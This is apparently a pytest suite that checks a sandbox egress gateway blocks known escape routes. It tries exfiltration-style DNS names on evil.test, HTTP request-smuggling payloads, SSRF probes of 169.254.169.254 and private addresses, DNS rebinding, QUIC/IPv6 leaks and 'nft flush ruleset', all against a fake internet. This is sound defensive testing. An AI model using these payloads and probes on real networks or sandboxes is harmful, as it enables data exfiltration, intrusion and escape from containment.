"""Egress conformance: each known hole of sandbox egress policies, tried against the real gateway.

Every test runs its clients inside a sandbox netns without capabilities, against
the fake internet of conftest.py, and checks both what the client saw and what
the fake internet did or did not receive.
"""

from __future__ import annotations

import json
import textwrap
import time

import pytest

from hutch import Network

from egress_world import GW, HOST_ADDR, HOST_SERVICE_PORT

ALLOW_WWW = Network.allow(domains=["www.example.test"])


def served(r):
    assert r.returncode == 0, f"curl failed: {r.stderr}"
    return json.loads(r.stdout)


def pyclient(body: str) -> str:
    return textwrap.dedent(body)


def reach_by_udp_and_tcp(addr: str) -> str:
    """A client that sends a UDP datagram to `addr` port 8000, then connects there by TCP: prints "connected" or
    "error" (shared with the gVisor tests)."""
    return pyclient(f"""
        import socket
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            u.sendto(b"x", ({addr!r}, 8000))
        except OSError:
            pass
        try:
            socket.create_connection(({addr!r}, 8000), timeout=3); print("connected")
        except OSError:
            print("error")
    """)


#: A client that holds a slow HTTP connection to www.example.test and one to api.example.test, prints "open", waits
#: for a line on stdin, then prints for each "<name> reset", "<name> eof" or (still served after 1 s) "<name> alive"
#: (shared with the gVisor tests)
HOLD_WWW_AND_API = pyclient("""
        import socket, sys, time
        conns = {}
        for name in ("www.example.test", "api.example.test"):
            s = socket.create_connection((name, 80), timeout=20)
            s.sendall(("GET /slow HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % name).encode())
            s.recv(100)
            conns[name] = s
        print("open", flush=True)
        sys.stdin.readline()
        t0 = time.monotonic()
        for name, s in conns.items():
            try:
                while True:
                    d = s.recv(4096)
                    if not d:
                        print(name, "eof", flush=True); break
                    if time.monotonic() - t0 > 1.0:
                        print(name, "alive", flush=True); break
            except ConnectionResetError:
                print(name, "reset", flush=True)
    """)


# --- allowed traffic works -------------------------------------------------


def test_allowed_name_https_and_http_with_curl(sandbox):
    sb = sandbox(ALLOW_WWW)
    got = served(sb.curl("https://www.example.test/a"))
    assert got == {"server": "192.0.2.10", "port": 443, "host": "www.example.test", "path": "/a", "tls": True}
    got = served(sb.curl("http://www.example.test/b"))
    assert got["server"] == "192.0.2.10" and got["path"] == "/b" and got["tls"] is False
    log = sb.log()
    assert {(d.protocol, d.verdict) for d in log} >= {("dns", "allow"), ("tls", "allow"), ("http", "allow")}
    assert all(d.time > 0 and d.reason for d in log)


def test_allowed_name_with_python(sandbox, world):
    sb = sandbox(Network.allow(domains=["*.example.test"]))
    r = sb.py(pyclient(f"""
        import json, ssl, urllib.request
        ctx = ssl.create_default_context(cafile={str(world.ca)!r})
        a = json.load(urllib.request.urlopen("https://api.example.test/x", context=ctx, timeout=8))
        b = json.load(urllib.request.urlopen("http://deep.a.example.test/y", timeout=8))
        print(json.dumps([a, b]))
    """))
    assert r.returncode == 0, r.stderr
    a, b = json.loads(r.stdout)
    assert a["server"] == "198.51.100.10" and a["tls"] and a["host"] == "api.example.test"
    assert b["server"] == "192.0.2.10" and b["host"] == "deep.a.example.test"


def test_wildcard_does_not_match_apex(sandbox):
    sb = sandbox(Network.allow(domains=["*.example.test"]))
    r = sb.curl("https://example.test/")
    assert r.returncode != 0
    assert any(d.name == "example.test" and d.verdict == "deny" for d in sb.log())


# --- DNS ---------------------------------------------------------------------


def test_name_not_allowed_fails_at_dns_and_is_never_forwarded(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    r = sb.curl("https://secretdata1.evil.test/")
    assert r.returncode == 6, r.stderr        # could not resolve host
    # every record type, over UDP and TCP, straight at the gateway resolver
    r = sb.py(pyclient(f"""
        import socket, struct, random
        def q(name, qtype, tcp=False):
            qid = random.randrange(65536)
            msg = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
            msg += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
            msg += struct.pack("!HH", qtype, 1)
            if tcp:
                s = socket.create_connection(({GW!r}, 53), timeout=3)
                s.sendall(struct.pack("!H", len(msg)) + msg)
                data = s.recv(4096)[2:]
            else:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
                s.sendto(msg, ({GW!r}, 53)); data = s.recv(4096)
            return data[3] & 0xF, struct.unpack("!H", data[6:8])[0]
        out = []
        for t in (1, 28, 16, 15, 255):
            out.append(q("secretdata2.evil.test", t))
            out.append(q("secretdata3.evil.test", t, tcp=True))
        out.append(q("www.example.test", 28))   # AAAA of an allowed name: empty
        out.append(q("www.example.test", 16))   # TXT: empty
        out.append(q("www.example.test", 1))
        print(out)
    """))
    assert r.returncode == 0, r.stderr
    results = eval(r.stdout)
    assert all(res == (3, 0) for res in results[:10]), results     # NXDOMAIN, no answers
    assert results[10] == (0, 0) and results[11] == (0, 0)
    assert results[12] == (0, 1)
    queried = [e["name"] for e in world.events_since(mark) if e["kind"] == "dns"]
    assert not [n for n in queried if "secretdata" in n], queried
    assert not [e for e in world.events_since(mark) if e["kind"] == "dns" and e["qtype"] != "A"]
    assert any(d.name == "secretdata1.evil.test" and d.verdict == "deny" for d in sb.log())


def test_direct_dns_to_another_resolver_is_dropped(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    r = sb.run("curl", "-sS", "--max-time", "3", "--dns-servers", "192.0.2.53", "http://x1.evil.test/")
    r = sb.py(pyclient("""
        import socket
        for dst in [("192.0.2.53", 53), ("192.0.2.10", 53)]:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:   # the sandbox's own rules make this EPERM; the host would drop it anyway
                s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x02x2\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01", dst)
            except OSError:
                pass
        try:
            s = socket.create_connection(("192.0.2.53", 53), timeout=3)
            s.sendall(b"\\x00\\x1e" + b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x02x3\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01")
            print("tcp", s.recv(100))
        except OSError as e:
            print("tcp refused", e)
    """))
    assert r.returncode == 0, r.stderr
    time.sleep(0.3)
    evs = world.events_since(mark)
    assert not [e for e in evs if e["kind"] == "dns"], evs
    assert not [e for e in evs if e["kind"] == "udp"], evs
    assert "tcp refused" in r.stdout


# --- the proxy ---------------------------------------------------------------


def test_raw_ip_not_allowed_is_refused(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    r = sb.curl("-k", "https://203.0.113.10/")
    assert r.returncode != 0
    r = sb.curl("http://203.0.113.10/")
    assert r.returncode != 0
    r = sb.run("curl", "-sS", "--max-time", "5", "telnet://203.0.113.20:7000")
    assert r.returncode != 0
    assert not [e for e in world.events_since(mark) if e.get("local") in ("203.0.113.10", "203.0.113.20")]
    denies = [d for d in sb.log() if d.verdict == "deny" and d.address == "203.0.113.10"]
    assert denies and all(d.reason for d in denies)


def test_refused_connection_is_reset_not_accepted(sandbox):
    sb = sandbox(ALLOW_WWW)
    r = sb.py(pyclient("""
        import socket
        s = socket.create_connection(("203.0.113.10", 80), timeout=5)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
        try:
            print("read", s.recv(100))
        except ConnectionResetError:
            print("reset")
    """))
    assert r.stdout.strip() == "reset", (r.stdout, r.stderr)


def test_sni_of_allowed_name_sent_elsewhere_goes_to_the_names_own_address(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    got = served(sb.curl("--resolve", "www.example.test:443:203.0.113.10", "https://www.example.test/"))
    assert got["server"] == "192.0.2.10"
    got = served(sb.curl("--resolve", "www.example.test:80:10.0.0.1", "http://www.example.test/"))
    assert got["server"] == "192.0.2.10"
    locals_ = {e.get("local") for e in world.events_since(mark) if e["kind"] == "tcp"}
    assert locals_ == {"192.0.2.10"}


def test_forged_etc_hosts_gets_nothing(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    (sb.etc / "hosts").write_text("10.0.0.1 www.example.test\n169.254.169.254 evil.test\n")
    mark = world.mark()
    got = served(sb.curl("https://www.example.test/"))
    assert got["server"] == "192.0.2.10"
    assert sb.curl("http://evil.test/").returncode != 0
    assert {e.get("local") for e in world.events_since(mark) if e["kind"] == "tcp"} == {"192.0.2.10"}


def test_http_host_mismatch_is_refused(sandbox, world):
    sb = sandbox(Network.allow(domains=["www.example.test", "second.example.test"]))
    mark = world.mark()
    assert sb.curl("-H", "Host: evil.test", "http://www.example.test/").returncode != 0
    # a kept-alive connection: the first request is fine, the second names another host
    code = pyclient("""
        import socket, sys
        s = socket.create_connection(("www.example.test", 80), timeout=5)
        def req(host):
            s.sendall(("GET /k HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host).encode())
            data = b""
            while b"}" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    return "eof"
                data += chunk
            return data.split(b"\\r\\n\\r\\n", 1)[1].decode()
        print(req("www.example.test"))
        try:
            print(req(sys.argv[1]))
        except ConnectionResetError:
            print("reset")
    """)
    for second in ("evil.test", "second.example.test"):
        r = sb.run(__import__("sys").executable, "-c", code, second)
        lines = r.stdout.strip().splitlines()
        assert json.loads(lines[0])["host"] == "www.example.test", r.stderr
        assert lines[1] in ("reset", "eof"), r.stdout
    hosts = [e["host"] for e in world.events_since(mark) if e["kind"] == "http"]
    assert hosts == ["www.example.test", "www.example.test"], hosts
    assert any("not www.example.test" in d.reason for d in sb.log())


@pytest.mark.parametrize("raw", [
    b"GET / HTTP/1.1\r\nHost: www.example.test\r\nHost: evil.test\r\n\r\n",
    b"GET / HTTP/1.1\nHost: www.example.test\n\n",
    b"GET http://evil.test/ HTTP/1.1\r\nHost: www.example.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: www.example.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: www.example.test\r\nContent-Length: 44\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: www.example.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
    b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: www.example.test\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
])
def test_http_smuggling_shapes_never_reach_another_host(sandbox, world, raw):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    sb.py(pyclient(f"""
        import socket
        s = socket.create_connection(("www.example.test", 80), timeout=3)
        s.sendall({raw!r})
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
    """))
    hosts = [e["host"] for e in world.events_since(mark) if e["kind"] == "http"]
    assert all(h == "www.example.test" for h in hosts), hosts


@pytest.mark.parametrize("name,addr", [
    ("local.example.test", "127.0.0.1"), ("private.example.test", "10.0.0.1"),
    ("meta.example.test", "169.254.169.254"), ("cgnat.example.test", "100.64.0.1"),
    ("gateway.example.test", GW), ("hostaddr.example.test", HOST_ADDR),
])
def test_allowed_name_resolving_to_private_addresses_is_refused(sandbox, world, name, addr):
    sb = sandbox(Network.allow(domains=["*.example.test"]))
    mark = world.mark()
    assert sb.curl(f"http://{name}/").returncode != 0          # DNS gives no address
    # even bypassing DNS (connect to a public address, name the rebinding host)
    assert sb.curl("--resolve", f"{name}:443:203.0.113.10", f"https://{name}/").returncode != 0
    assert sb.curl("--resolve", f"{name}:80:192.0.2.10", f"http://{name}/").returncode != 0
    evs = world.events_since(mark)
    assert not [e for e in evs if e["kind"] in ("tcp", "http")], evs
    assert any(d.name == name and d.verdict == "deny" and addr in d.reason for d in sb.log())


def test_mixed_answer_keeps_only_public_addresses(sandbox, world):
    sb = sandbox(Network.allow(domains=["mixed.example.test"]))
    mark = world.mark()
    got = served(sb.curl("http://mixed.example.test/"))
    assert got["server"] == "203.0.113.10"
    got = served(sb.curl("--resolve", "mixed.example.test:80:10.0.0.1", "http://mixed.example.test/"))
    assert got["server"] == "203.0.113.10"
    assert "10.0.0.1" not in {e.get("local") for e in world.events_since(mark)}


def test_cidr_rule_names_a_private_address(sandbox, world):
    sb = sandbox(Network.allow(domains=["private.example.test"], cidrs=["10.0.0.1/32"], ports=[80, 7000]))
    got = served(sb.curl("http://private.example.test/"))
    assert got["server"] == "10.0.0.1"
    # a broad cidr does not open private or metadata addresses
    sb2 = sandbox(Network.allow(cidrs=["0.0.0.0/0"], ports=[80]))
    assert served(sb2.curl("http://203.0.113.10/"))["server"] == "203.0.113.10"
    assert sb2.curl("http://10.0.0.1/").returncode != 0
    assert sb2.curl("http://169.254.169.254/").returncode != 0


def test_cidr_rules_allow_raw_tcp_on_their_ports(sandbox, world):
    sb = sandbox(Network.allow(cidrs=["203.0.113.20/32"], ports=[7000]))
    code = pyclient("""
        import socket, sys
        try:
            s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
            s.sendall(b"ping")
            print(s.recv(10).decode() or "eof")
        except OSError as e:
            print("error", type(e).__name__)
    """)
    import sys
    assert sb.run(sys.executable, "-c", code, "203.0.113.20", "7000").stdout.strip() == "ping"
    assert sb.run(sys.executable, "-c", code, "203.0.113.20", "7001").stdout.strip() != "ping"
    assert sb.run(sys.executable, "-c", code, "203.0.113.21", "7000").stdout.strip() != "ping"


def test_connect_through_an_allowed_proxy_cannot_reach_a_forbidden_name(sandbox, world):
    sb = sandbox(Network.allow(domains=["proxy.example.test"], ports=[80, 443]))
    mark = world.mark()
    r = sb.curl("-p", "-x", "http://proxy.example.test:80", "https://forbidden.test/")
    assert r.returncode != 0
    r = sb.curl("-x", "http://proxy.example.test:80", "http://forbidden.test/")
    assert r.returncode != 0
    evs = world.events_since(mark)
    assert not [e for e in evs if e["kind"] in ("connect-relay", "proxy-request")], evs
    assert any("CONNECT" in d.reason for d in sb.log() if d.verdict == "deny")


def test_tls_without_sni_to_a_forbidden_address_is_refused(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    mark = world.mark()
    r = sb.py(pyclient(f"""
        import socket, ssl
        ctx = ssl.create_default_context(cafile={str(world.ca)!r}); ctx.check_hostname = False
        try:
            with socket.create_connection(("203.0.113.10", 443), timeout=5) as s:
                with ctx.wrap_socket(s) as t:    # no server_hostname: no SNI
                    print("connected")
        except OSError as e:
            print("refused", type(e).__name__)
    """))
    assert r.stdout.startswith("refused"), r.stdout + r.stderr
    assert not [e for e in world.events_since(mark) if e["kind"] == "tcp"]


# --- protocols and places that must be unreachable -----------------------------


def test_udp_and_quic_out_are_dropped(sandbox, world):
    sb = sandbox(Network.allow(domains=["other.example.test"], cidrs=["203.0.113.0/24"], ports=[443, 9999]))
    mark = world.mark()
    r = sb.py(pyclient(f"""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sent = 0
        for dst in [("203.0.113.10", 443), ("203.0.113.10", 9999), ("{GW}", 443), ("{GW}", {HOST_SERVICE_PORT}),
                    ("{HOST_ADDR}", {HOST_SERVICE_PORT})]:
            try:
                s.sendto(b"\\xc0\\x00\\x00\\x00\\x01" + b"q" * 1200, dst)   # a QUIC-looking Initial
                sent += 1
            except OSError:
                pass
        print(sent)
    """))
    assert r.returncode == 0, r.stderr
    time.sleep(0.3)
    evs = world.events_since(mark)
    assert not [e for e in evs if e["kind"] in ("udp", "host-udp")], evs
    r = sb.run("curl", "-sS", "--max-time", "3", "--http3-only", "https://other.example.test/")
    assert r.returncode != 0


def test_ipv6_out_is_impossible(sandbox):
    sb = sandbox(ALLOW_WWW)
    r = sb.py(pyclient("""
        import socket
        print(open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip())
        print(open("/proc/net/if_inet6").read().strip() or "none")
        try:
            socket.create_connection(("2001:db8::10", 80), timeout=2)
            print("connected")
        except OSError as e:
            print("error", type(e).__name__)
    """))
    out = r.stdout.split("\n")
    assert out[0] == "1" and out[1] == "none" and out[2].startswith("error"), r.stdout + r.stderr
    assert sb.curl("-6", "http://www.example.test/").returncode != 0


def test_host_services_and_loopback_are_unreachable(sandbox, world):
    sb = sandbox(Network.open())
    mark = world.mark()
    code = pyclient("""
        import socket, sys
        for host in sys.argv[1:]:
            try:
                s = socket.create_connection((host, %d), timeout=3)
                s.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
                print(host, "data" if s.recv(10) else "eof")
            except OSError as e:
                print(host, "error")
    """ % HOST_SERVICE_PORT)
    import sys
    r = sb.run(sys.executable, "-c", code, GW, HOST_ADDR, "127.0.0.1")
    assert all(ln.endswith(("error", "eof")) for ln in r.stdout.splitlines()), r.stdout
    # the proxy port itself, spoken to directly, relays nothing
    r = sb.run("curl", "-sS", "--max-time", "3", f"http://{GW}:15001/")
    assert r.returncode != 0
    time.sleep(0.2)
    assert not [e for e in world.events_since(mark) if e["kind"].startswith("host-")]


def test_another_sandbox_is_unreachable(sandbox, world):
    a = sandbox(Network.open())
    b = sandbox(Network.open())
    import subprocess
    import sys
    p = subprocess.Popen(["ip", "netns", "exec", b.netns, sys.executable, "-c",
                          "import socket,sys;s=socket.socket();s.bind(('0.0.0.0',8000));s.listen();"
                          "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.bind(('0.0.0.0',8000));"
                          "print('ready',flush=True);s.settimeout(5);u.settimeout(0.1)\n"
                          "try:\n c,a=s.accept();print('accepted',a)\nexcept OSError: print('none')\n"
                          "try:\n print('udp',u.recvfrom(10))\nexcept OSError: print('noudp')"],
                         stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline().strip() == "ready"
        baddr = b.address
        r = a.py(reach_by_udp_and_tcp(baddr))
        assert r.stdout.strip() == "error", r.stdout
        out, _ = p.communicate(timeout=10)
        assert "accepted" not in out and "noudp" in out, out
    finally:
        p.kill()
        p.wait()


def test_sandbox_without_capabilities_cannot_change_its_rules(sandbox):
    sb = sandbox(ALLOW_WWW)
    r = sb.run("nft", "flush", "ruleset")
    assert r.returncode != 0
    r = sb.run("ip", "route", "add", "10.0.0.0/8", "via", GW)
    assert r.returncode != 0


def test_host_side_rules_hold_even_if_the_sandbox_rules_are_gone(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    # an attacker that somehow had CAP_NET_ADMIN in its netns: no sandbox-side rules, IPv6 on
    sb.run("nft", "flush", "ruleset", caps=True, check=True)
    mark = world.mark()
    code = pyclient(f"""
        import socket
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for dst in [("203.0.113.10", 9999), ("192.0.2.53", 53), ("{GW}", {HOST_SERVICE_PORT})]:
            u.sendto(b"x" * 40, dst)
        try:
            socket.create_connection(("{GW}", {HOST_SERVICE_PORT}), timeout=2); print("connected")
        except OSError:
            print("error")
    """)
    r = sb.py(code, caps=True)
    assert r.stdout.strip() == "error", r.stdout + r.stderr
    # a spoofed source address is dropped on the host
    r = sb.run("ip", "addr", "add", "198.18.0.77/32", "dev", "eth0", caps=True)
    r = sb.py(pyclient("""
        import socket
        s = socket.socket(); s.bind(("198.18.0.77", 0)); s.settimeout(2)
        try:
            s.connect(("192.0.2.10", 80)); print("connected")
        except OSError:
            print("error")
    """), caps=True)
    assert r.stdout.strip() == "error", r.stdout + r.stderr
    time.sleep(0.3)
    evs = world.events_since(mark)
    assert not [e for e in evs if e["kind"] in ("udp", "host-udp", "host-tcp", "dns", "tcp")], evs


# --- policy changes ----------------------------------------------------------


def test_policy_change_resets_a_now_forbidden_open_connection(sandbox, world):
    import subprocess
    import sys
    sb = sandbox(Network.allow(domains=["www.example.test", "api.example.test"]))
    code = HOLD_WWW_AND_API
    p = subprocess.Popen(["ip", "netns", "exec", sb.netns, sys.executable, "-c", code], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline().strip() == "open", p.stderr.read() if p.poll() is not None else ""
        sb.set_policy(Network.allow(domains=["api.example.test"]))
        out, err = p.communicate("go\n", timeout=15)
    finally:
        p.kill()
        p.wait()
        for f in (p.stdin, p.stdout, p.stderr):   # communicate() closed them, unless it never ran
            f.close()
    assert "www.example.test reset" in out, out + err
    assert "api.example.test alive" in out, out + err
    assert any(d.name == "www.example.test" and "policy change" in d.reason for d in sb.log())
    # and new connections follow the new policy
    assert sb.curl("http://www.example.test/").returncode != 0
    assert served(sb.curl("http://api.example.test/"))["server"] == "198.51.100.10"


def test_set_policy_none_removes_the_link_and_allow_brings_it_back(sandbox):
    sb = sandbox(ALLOW_WWW)
    sb.set_policy(Network.none())
    r = sb.run("ip", "-o", "link")
    assert "eth0" not in r.stdout
    assert sb.curl("http://www.example.test/").returncode != 0
    sb.set_policy(Network.allow(domains=["api.example.test"]))
    assert served(sb.curl("http://api.example.test/"))["server"] == "198.51.100.10"
    assert sb.curl("http://www.example.test/").returncode != 0


def test_none_sandbox_has_no_route_at_all(sandbox):
    sb = sandbox(Network.none())
    assert sb.run("ip", "-o", "route").stdout.strip() == ""
    links = [ln.split(":")[1].strip() for ln in sb.run("ip", "-o", "link").stdout.splitlines()]
    assert links == ["lo"]
    r = sb.py(pyclient(f"""
        import socket
        for dst in [("192.0.2.10", 80), ("{GW}", 53)]:
            try:
                socket.create_connection(dst, timeout=2); print("connected")
            except OSError as e:
                print(type(e).__name__, e.errno)
    """))
    assert r.stdout.split() == ["OSError", "101", "OSError", "101"], r.stdout   # ENETUNREACH


def test_detach_leaves_nothing(world, sandbox):
    sb = sandbox(ALLOW_WWW)
    link = world.gw.sync(lambda: world.gw.gw.attachment(sb.id).link)
    served(sb.curl("http://www.example.test/"))
    addr = sb.address
    world.gw.call(world.gw.gw.detach(sb.id))
    out = __import__("subprocess").run(["ip", "-n", world.host, "-o", "link"], capture_output=True, text=True).stdout
    assert link not in out
    nft = __import__("subprocess").run(["ip", "netns", "exec", world.host, "nft", "list", "set", "inet",
                                        "hutch_egress_test", "members"], capture_output=True, text=True).stdout
    assert addr not in nft
    ct = __import__("subprocess").run(["ip", "netns", "exec", world.host, "cat", "/proc/net/nf_conntrack"],
                                      capture_output=True, text=True).stdout
    assert f"src={addr} " not in ct
    assert sb.run("ip", "-o", "link").stdout.count(":") >= 1 and "eth0" not in sb.run("ip", "-o", "link").stdout


def test_a_second_gateway_that_cannot_start_leaves_the_first_ones_rules(world, sandbox):
    import subprocess

    from egress_world import SUBNET, GatewayThread

    from hutch._core.errors import SandboxError
    with pytest.raises(SandboxError, match="is another gateway's on this host"):
        GatewayThread(world.host, upstream_resolvers=["192.0.2.53"], subnet=SUBNET, table="hutch_egress_test")
    out = subprocess.run(["ip", "netns", "exec", world.host, "nft", "list", "table", "inet", "hutch_egress_test"],
                         capture_output=True, text=True)
    assert out.returncode == 0 and "members" in out.stdout
    sb = sandbox(ALLOW_WWW)
    assert served(sb.curl("http://www.example.test/"))["server"] == "192.0.2.10"


def test_start_reaps_links_a_crashed_gateway_left(world):
    import subprocess

    from egress_world import GatewayThread, sh
    ns = f"hutch-eg-reap-{world.tag}"
    sh("ip", "netns", "add", ns)
    gw = None
    try:
        # what a crashed gateway leaves: a link of ours carrying the gateway address, and one that is not ours
        sh("ip", "-n", ns, "link", "add", "hvc6120902", "type", "veth", "peer", "name", "hvpeer0")
        sh("ip", "-n", ns, "addr", "add", "198.18.9.1/32", "peer", "198.18.9.2/32", "dev", "hvc6120902")
        sh("ip", "-n", ns, "link", "add", "other0", "type", "veth", "peer", "name", "other1")
        sh("ip", "-n", ns, "addr", "add", "198.18.9.1/32", "dev", "other0")
        gw = GatewayThread(ns, upstream_resolvers=["192.0.2.53"], subnet="198.18.9.0/24", table="hutch_egress_reap")
        links = subprocess.run(["ip", "-n", ns, "-o", "link"], capture_output=True, text=True).stdout
        assert "hvc6120902" not in links and "other0" in links
    finally:
        if gw is not None:
            gw.close()
        sh("ip", "netns", "del", ns, check=False)


def test_client_hello_dribbled_byte_by_byte_still_works(sandbox, world):
    sb = sandbox(ALLOW_WWW)
    r = sb.py(pyclient(f"""
        import socket, ssl, time
        ctx = ssl.create_default_context(cafile={str(world.ca)!r})
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = ctx.wrap_bio(inc, out, server_hostname="www.example.test")
        s = socket.create_connection(("www.example.test", 443), timeout=5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        first = True
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = out.read()
                if first:   # the ClientHello, one byte per segment
                    for i in range(len(data)):
                        s.send(data[i:i + 1])
                        time.sleep(0.001)
                    first = False
                else:
                    s.sendall(data)
                inc.write(s.recv(65536))
        s.sendall(out.read())
        tls.write(b"GET /dribble HTTP/1.1\\r\\nHost: www.example.test\\r\\nConnection: close\\r\\n\\r\\n")
        s.sendall(out.read())
        body = b""
        while True:
            try:
                body += tls.read(65536)
                continue
            except ssl.SSLWantReadError:
                pass
            except ssl.SSLZeroReturnError:
                break
            if b"\\r\\n\\r\\n" in body and body.endswith(b"}}"):
                break
            d = s.recv(65536)
            if not d:
                break
            inc.write(d)
        print(body.split(b"\\r\\n\\r\\n", 1)[1].decode())
    """))
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout)
    assert got["server"] == "192.0.2.10" and got["path"] == "/dribble" and got["tls"]


def test_open_reaches_public_names_and_addresses_but_nothing_private(sandbox, world):
    sb = sandbox(Network.open())
    assert served(sb.curl("https://other.example.test/"))["server"] == "203.0.113.10"
    assert served(sb.curl("http://198.51.100.10/"))["server"] == "198.51.100.10"
    mark = world.mark()
    for url in ("http://10.0.0.1/", "http://169.254.169.254/", "http://private.example.test/",
                "http://meta.example.test/"):
        assert sb.curl(url).returncode != 0, url
    # a public address is open by itself: the name sent along does not steer it anywhere else
    got = served(sb.curl("--resolve", "meta.example.test:80:203.0.113.10", "http://meta.example.test/"))
    assert got["server"] == "203.0.113.10"
    reached = {e.get("local") for e in world.events_since(mark) if e["kind"] in ("tcp", "http")}
    assert reached == {"203.0.113.10"}, reached


def test_other_machines_cannot_use_the_gateway(world, sandbox):
    import subprocess
    import sys

    sandbox(ALLOW_WWW)   # so that the gateway address exists on a link
    # a machine on the "internet" side that routes the link subnet through the host
    subprocess.run(["ip", "-n", world.inet, "route", "add", "198.18.0.0/24", "via", HOST_ADDR, "dev", "inet0",
                    "onlink"], check=True)
    try:
        code = pyclient(f"""
            import socket
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
            u.sendto(b"\\\\x12\\\\x34\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x03www\\\\x07example\\\\x04test\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01", ("{GW}", 53))
            try:
                u.recv(512); print("dns answered")
            except OSError:
                print("dns silent")
            try:
                socket.create_connection(("{GW}", 15001), timeout=2); print("proxy reached")
            except OSError:
                print("proxy unreachable")
        """)
        r = subprocess.run(["ip", "netns", "exec", world.inet, sys.executable, "-c", code], capture_output=True,
                           text=True, timeout=20)
        assert r.stdout.split("\n")[:2] == ["dns silent", "proxy unreachable"], r.stdout + r.stderr
    finally:
        subprocess.run(["ip", "-n", world.inet, "route", "del", "198.18.0.0/24"], check=False)


def test_a_server_reset_reaches_the_client_at_once(sandbox):
    sb = sandbox(ALLOW_WWW)
    r = sb.py(pyclient("""
        import socket, time
        s = socket.create_connection(("www.example.test", 80), timeout=5)
        s.sendall(b"GET /reset HTTP/1.1\\r\\nHost: www.example.test\\r\\n\\r\\n")
        t = time.monotonic()
        try:
            print("eof" if not s.recv(100) else "data", end=" ")
        except ConnectionResetError:
            print("reset", end=" ")
        except socket.timeout:
            print("hung", end=" ")
        print(round(time.monotonic() - t, 1))
    """))
    verdict, seconds = r.stdout.split()
    # a connection left hanging reads "hung" at the socket's 5 s timeout; the seconds are for the message only
    assert verdict in ("reset", "eof"), r.stdout + r.stderr + f" after {seconds} s"
